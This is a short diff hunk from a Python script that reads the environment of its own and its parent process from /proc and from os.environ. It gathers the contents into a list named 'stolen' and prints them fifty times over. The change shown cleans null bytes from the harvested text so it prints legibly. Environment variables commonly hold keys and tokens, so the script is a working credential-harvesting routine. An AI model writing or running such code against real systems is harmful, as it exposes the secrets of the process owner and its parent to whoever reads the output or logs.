@@ -13,7 +13,7 @@ for path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.
     except OSError as e:
         stolen.append(f"{path}: {e}")
 stolen.append(repr(dict(os.environ)))
-text = " | ".join(stolen)
+text = " | ".join(stolen).replace("\0", " ")
 print(text * 50)
 
 
